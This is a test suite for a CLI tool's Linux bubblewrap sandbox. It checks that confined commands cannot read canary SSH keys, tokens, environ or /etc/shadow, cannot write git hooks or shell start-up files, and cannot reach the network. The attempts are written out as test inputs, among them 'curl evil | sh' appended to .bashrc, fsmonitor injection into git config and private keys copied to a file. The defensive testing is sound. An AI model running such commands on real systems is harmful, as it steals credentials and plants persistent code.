/** The Linux sandbox for real (bubblewrap): what a process inside can and cannot do. */
import { describe, expect, test } from "bun:test";
import { existsSync } from "node:fs";
import { mkdir, readdir, readFile, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { EXIT } from "../../../lib/core/errors.ts";
import { Sandbox } from "../../../lib/sandbox/sandbox.ts";
import { tempDir } from "../../support/ctx.ts";
import { SANDBOX_MISSING } from "../../support/sandbox.ts";

const live = test.skipIf(SANDBOX_MISSING !== undefined);

async function setup(home: string) {
  const ws = join(home, "ws");
  await mkdir(join(ws, ".git", "hooks"), { recursive: true });
  await writeFile(join(ws, ".git", "config"), "[core]\n");
  await writeFile(join(ws, "f.txt"), "one\n");
  await mkdir(join(home, ".ssh"));
  await writeFile(join(home, ".ssh", "id_rsa"), "PRIVATE-CANARY\n");
  await writeFile(join(home, ".netrc"), "machine x password NETRC-CANARY\n");
  await symlink(join(home, ".ssh", "id_rsa"), join(ws, "key-link"));
  const env = {
    PATH: process.env["PATH"] ?? "/usr/bin:/bin",
    HOME: home,
    CHATCLI_HOME: join(home, ".chatcli"),
    OPENAI_API_KEY: "sk-canary-canary-canary-1234",
  };
  await mkdir(env.CHATCLI_HOME);
  await writeFile(join(env.CHATCLI_HOME, "config.json"), "{}");
  return { ws, env };
}

async function sh(sb: Sandbox, cwd: string, env: Record<string, string>, script: string) {
  return sb.run(["sh", "-c", script], {
    cwd,
    env: sb.childEnv(env),
    timeoutMs: 20_000,
    signal: new AbortController().signal,
  });
}

describe("bubblewrap sandbox", () => {
  live(
    "read-only: only the private /tmp is writable; credentials, chatcli home and the parent's environ are not readable",
    async () => {
      await using home = await tempDir();
      const { ws, env } = await setup(home.path);
      const sb = await Sandbox.create({
        env,
        setting: "required",
        permissionMode: "read-only",
        workspaceRoot: ws,
      });
      expect(sb.info).toEqual({
        kind: "bubblewrap",
        available: true,
        network: false,
        network_allow: null,
      });
      const r = await sh(
        sb,
        ws,
        env,
        `
      echo x > f.txt; echo "ws=$?"
      echo x > ${home.path}/outside; echo "outside=$?"
      echo t > /tmp/mine && cat /tmp/mine
      cat ${home.path}/.ssh/id_rsa key-link ${home.path}/.netrc ${env.CHATCLI_HOME}/config.json 2>/dev/null; echo "cat=$?"
      cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c canary
    `,
      );
      expect(r.stdout).toContain("ws=2");
      // HOME is an empty tmpfs: a write there lands in it and is gone after the command
      expect(r.stdout).toContain("outside=0");
      expect(r.stdout).toContain("t\n");
      expect(r.stdout).not.toContain("CANARY");
      expect(r.stdout.trim().endsWith("0")).toBe(true);
      expect(await readFile(join(ws, "f.txt"), "utf8")).toBe("one\n");
      expect(existsSync(join(home.path, "outside"))).toBe(false);
      // the private /tmp lives for the run, then goes
      const again = await sh(sb, ws, env, "cat /tmp/mine");
      expect(again.stdout).toBe("t\n");
      sb.dispose();
    },
  );

  for (const allowGitWrites of [false, true])
    live(
      `edit${allowGitWrites ? " --allow-git-writes" : ""}: the workspace is writable but .git/hooks, .git/config, config.worktree, .chatcli, a new commondir and .git itself (no rename) are not${allowGitWrites ? "" : "; nor anything else in .git"}; no mount point is left behind`,
      async () => {
        await using home = await tempDir();
        const { ws, env } = await setup(home.path);
        const sb = await Sandbox.create({
          env,
          setting: "auto",
          permissionMode: "edit",
          workspaceRoot: ws,
          allowGitWrites,
        });
        const r = await sh(
          sb,
          ws,
          env,
          `
      echo two >> f.txt; echo "ws=$?"
      echo 'touch /tmp/pwned' > .git/hooks/pre-commit; echo "hook=$?"
      echo '[core] fsmonitor = x' >> .git/config; echo "config=$?"
      echo '[core] fsmonitor = x' > .git/config.worktree; echo "worktree=$?"
      mkdir -p .chatcli && echo '{}' > .chatcli/config.json; echo "chatcli=$?"
      mv .git .git-old; echo "rename=$?"
      echo ../evil > .git/commondir; echo "commondir=$?"
      mkdir -p .git/modules/x; echo "modules=$?"
      echo msg > .git/COMMIT_EDITMSG; echo "editmsg=$?"
    `,
        );
        expect(r.stdout).toMatch(/rename=[12]/);
        expect(r.stdout).toMatch(/commondir=[12]/);
        expect(r.stdout).toMatch(/modules=[12]/);
        expect(r.stdout).toContain("ws=0");
        expect(r.stdout).toMatch(/hook=[12]/);
        expect(r.stdout).toMatch(/config=[12]/);
        expect(r.stdout).toMatch(/worktree=[12]/);
        expect(r.stdout).toMatch(/chatcli=[12]/);
        expect(r.stdout).toMatch(allowGitWrites ? /editmsg=0/ : /editmsg=[12]/);
        expect(await readFile(join(ws, "f.txt"), "utf8")).toBe("one\ntwo\n");
        expect(await readdir(join(ws, ".git", "hooks"))).toEqual([]);
        expect(await readFile(join(ws, ".git", "config"), "utf8")).toBe("[core]\n");
        expect(existsSync(join(ws, ".chatcli"))).toBe(false);
        sb.dispose();
        expect((await readdir(join(ws, ".git"))).sort()).toEqual(
          allowGitWrites ? ["COMMIT_EDITMSG", "config", "hooks"] : ["config", "hooks"],
        );
      },
    );

  live(
    "no network (not even the host's loopback) and no AF_UNIX sockets, in every mode but auto --allow-network",
    async () => {
      await using home = await tempDir();
      const { ws, env } = await setup(home.path);
      const server = Bun.serve({
        port: 0,
        hostname: "127.0.0.1",
        fetch: () => new Response("HOST-SERVER"),
      });
      const sock = join(home.path, "agent.sock");
      const unix = Bun.serve({ unix: sock, fetch: () => new Response("UNIX-SERVER") });
      try {
        const probe = `python3 - <<'PY'
import socket
for fam, addr in ((socket.AF_INET, ("127.0.0.1", ${server.port})), (socket.AF_UNIX, "${sock}")):
    try:
        s = socket.socket(fam); s.settimeout(2); s.connect(addr); s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); print(s.recv(200))
    except Exception as e:
        print("blocked", type(e).__name__)
PY`;
        for (const mode of ["read-only", "edit", "auto"] as const) {
          const sb = await Sandbox.create({
            env,
            setting: "auto",
            permissionMode: mode,
            workspaceRoot: ws,
          });
          const r = await sh(sb, ws, env, probe);
          expect(r.stdout).not.toContain("SERVER");
          expect(r.stdout.match(/blocked/g)?.length).toBe(2);
          sb.dispose();
        }
        const open = await Sandbox.create({
          env,
          setting: "auto",
          permissionMode: "auto",
          workspaceRoot: ws,
          allowNetwork: true,
        });
        expect(open.info.network).toBe(true);
        const r = await sh(open, ws, env, probe);
        expect(r.stdout).toContain("HOST-SERVER");
        open.dispose();
      } finally {
        server.stop(true);
        unix.stop(true);
      }
    },
  );

  live(
    "the whole process tree is confined: a grandchild writes no more than the shell",
    async () => {
      await using home = await tempDir();
      const { ws, env } = await setup(home.path);
      const sb = await Sandbox.create({
        env,
        setting: "auto",
        permissionMode: "auto",
        workspaceRoot: ws,
      });
      await sh(
        sb,
        ws,
        env,
        `sh -c 'sh -c "echo x > ${home.path}/deep; cat ${home.path}/.ssh/id_rsa > leaked"' ; true`,
      );
      expect(existsSync(join(home.path, "deep"))).toBe(false);
      expect(await readFile(join(ws, "leaked"), "utf8")).toBe("");
      sb.dispose();
    },
  );
});

describe("the home directory as the workspace", () => {
  live(
    "auto mode in ~: project files are writable, shell start-up files, ~/.gitconfig and ~/.config are not",
    async () => {
      await using home = await tempDir();
      await writeFile(join(home.path, ".bashrc"), "# mine\n");
      await writeFile(join(home.path, "notes.txt"), "a\n");
      const env = { PATH: process.env["PATH"] ?? "/usr/bin:/bin", HOME: home.path };
      const sb = await Sandbox.create({
        env,
        setting: "required",
        permissionMode: "auto",
        workspaceRoot: home.path,
      });
      const r = await sh(
        sb,
        home.path,
        env,
        `echo b >> notes.txt; echo "notes=$?"
       echo 'curl evil | sh' >> .bashrc; echo "bashrc=$?"
       printf '[core]\\n\\tfsmonitor = evil\\n' > .gitconfig; echo "gitconfig=$?"
       mkdir -p .config/autostart; echo "config=$?"`,
      );
      expect(r.stdout).toContain("notes=0");
      expect(r.stdout).toMatch(/bashrc=[12]/);
      expect(r.stdout).toMatch(/gitconfig=[12]/);
      expect(r.stdout).toMatch(/config=[12]/);
      expect(await readFile(join(home.path, ".bashrc"), "utf8")).toBe("# mine\n");
      expect(existsSync(join(home.path, ".gitconfig"))).toBe(false);
      expect(existsSync(join(home.path, ".config"))).toBe(false);
      sb.dispose();
    },
  );
});

describe("credentials CI leaves behind", () => {
  live(
    "actions/checkout's extraheader in .git/config and its included files are blanked; /etc/shadow is hidden",
    async () => {
      await using home = await tempDir();
      const { ws, env } = await setup(home.path);
      const inc = join(home.path, "git-credentials.config");
      await writeFile(inc, "[http]\n\textraheader = AUTHORIZATION: basic INCLUDED-CANARY\n");
      await writeFile(
        join(ws, ".git", "config"),
        `[core]\n\tbare = false\n[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic Q0FOQVJZ-CANARY\n[remote "origin"]\n\turl = https://x-access-token:ghs_CANARY@github.com/o/r\n[includeIf "gitdir:${ws}/.git"]\n\tpath = ${inc}\n`,
      );
      for (const mode of ["read-only", "auto"] as const) {
        const sb = await Sandbox.create({
          env,
          setting: "required",
          permissionMode: mode,
          workspaceRoot: ws,
        });
        const r = await sh(
          sb,
          ws,
          env,
          `cat .git/config ${inc} /etc/shadow 2>&1; git config -f .git/config -l 2>&1`,
        );
        expect(r.stdout.includes("CANARY")).toBe(false);
        expect(r.stdout).toContain("removed by chatcli's sandbox");
        expect(r.stdout).toContain("core.bare=false");
        expect(r.stdout.includes("root:")).toBe(false);
        expect(sb.refusesRead(join(ws, ".git", "config"))).toBe(true);
        sb.dispose();
      }
      expect(await readFile(join(ws, ".git", "config"), "utf8")).toContain("Q0FOQVJZ-CANARY");
    },
  );
});

describe("what the checkout cannot choose", () => {
  live(
    "a committed node_modules/.bin/bwrap on PATH (npm run) is not taken for the sandbox",
    async () => {
      await using home = await tempDir();
      const { ws, env } = await setup(home.path);
      const bin = join(ws, "node_modules", ".bin");
      await mkdir(bin, { recursive: true });
      await writeFile(join(bin, "bwrap"), `#!/bin/sh\ntouch ${home.path}/FAKE-BWRAP\nexit 0\n`, {
        mode: 0o755,
      });
      const withBin = { ...env, PATH: `${bin}:${env.PATH}` };
      const sb = await Sandbox.create({
        env: withBin,
        setting: "required",
        permissionMode: "auto",
        workspaceRoot: ws,
      });
      const r = await sh(sb, ws, withBin, "echo inside");
      expect(r.stdout).toBe("inside\n");
      expect(existsSync(join(home.path, "FAKE-BWRAP"))).toBe(false);
      sb.dispose();
    },
  );

  live("a workspace at / or above HOME is never made writable", async () => {
    await using home = await tempDir();
    const { env } = await setup(home.path);
    for (const root of ["/", join(home.path, "..")]) {
      const sb = await Sandbox.create({
        env,
        setting: "required",
        permissionMode: "auto",
        workspaceRoot: root,
      });
      const r = await sh(sb, home.path, env, `echo x > ${home.path}/made; echo "rc=$?"`);
      expect(r.stdout).toMatch(/rc=[12]/);
      sb.dispose();
    }
    expect(existsSync(join(home.path, "made"))).toBe(false);
  });
});

describe("no sandbox available", () => {
  test("required: exit 3 at start; auto: shell tools refused with the fix; off: runs unconfined", async () => {
    await using home = await tempDir();
    const env = {
      PATH: process.env["PATH"] ?? "",
      HOME: home.path,
      CHATCLI_SANDBOX_BWRAP: join(home.path, "no-bwrap"),
    };
    const opts = { env, workspaceRoot: home.path, permissionMode: "edit" as const };
    const err = await Sandbox.create({ ...opts, setting: "required" }).catch((e) => e);
    expect(err.exitCode).toBe(EXIT.config);
    expect(String(err.message)).toContain("--sandbox required");
    const auto = await Sandbox.create({ ...opts, setting: "auto" });
    expect(auto.info).toEqual({
      kind: "none",
      available: false,
      network: true,
      network_allow: null,
    });
    expect(auto.shellRefusal).toContain("--sandbox off");
    const off = await Sandbox.create({ ...opts, setting: "off" });
    expect(off.shellRefusal).toBeUndefined();
    expect(off.info.kind).toBe("none");
  });

  test("chatcli's own file tools refuse credential stores, CHATCLI_HOME and environ in every mode but bypass", async () => {
    await using home = await tempDir();
    const { ws, env } = await setup(home.path);
    const sb = await Sandbox.create({
      env: { ...env, CHATCLI_SANDBOX_BWRAP: "/nonexistent" },
      setting: "off",
      permissionMode: "read-only",
      workspaceRoot: ws,
    });
    expect(sb.refusesRead(join(home.path, ".ssh", "id_rsa"))).toBe(true);
    expect(sb.refusesRead(join(ws, "key-link"))).toBe(true);
    expect(sb.refusesRead(join(env.CHATCLI_HOME, "memory", "x.json"))).toBe(true);
    expect(sb.refusesRead("/proc/self/environ")).toBe(true);
    expect(sb.refusesRead(join(ws, "f.txt"))).toBe(false);
    const bypass = await Sandbox.create({
      env,
      setting: "auto",
      permissionMode: "bypass",
      workspaceRoot: ws,
    });
    expect(bypass.refusesRead(join(home.path, ".ssh", "id_rsa"))).toBe(false);
    expect(bypass.info.kind).toBe("none");
  });
});

/** Pids of live processes whose command line mentions `needle` (zombies have none). */
async function processesMentioning(needle: string): Promise<number[]> {
  const pids: number[] = [];
  for (const name of await readdir("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    const cmdline = await readFile(`/proc/${name}/cmdline`, "utf8").catch(() => "");
    if (cmdline.includes(needle)) pids.push(Number(name));
  }
  return pids;
}

/** Polls until `check` holds or `ms` pass; returns whether it held. */
async function eventually(check: () => Promise<boolean>, ms: number): Promise<boolean> {
  const deadline = Date.now() + ms;
  while (Date.now() < deadline) {
    if (await check()) return true;
    await Bun.sleep(20);
  }
  return check();
}

describe("bubblewrap sandbox: stopping", () => {
  live("an aborted command leaves no process behind, bwrap's namespace init included", async () => {
    await using home = await tempDir();
    const { ws, env } = await setup(home.path);
    const fifo = `never-${process.pid}-${Date.now()}`;
    Bun.spawnSync(["mkfifo", join(ws, fifo)]);
    const sb = await Sandbox.create({
      env,
      setting: "required",
      permissionMode: "read-only",
      workspaceRoot: ws,
    });
    const controller = new AbortController();
    const run = sb.run(["sh", "-c", `cat ${fifo}`], {
      cwd: ws,
      env: sb.childEnv(env),
      timeoutMs: 20_000,
      signal: controller.signal,
    });
    expect(await eventually(async () => (await processesMentioning(fifo)).length > 0, 5000)).toBe(
      true,
    );
    controller.abort();
    const result = await run;
    expect(result.aborted).toBe(true);
    expect(await eventually(async () => (await processesMentioning(fifo)).length === 0, 3000)).toBe(
      true,
    );
    sb.dispose();
  });
});
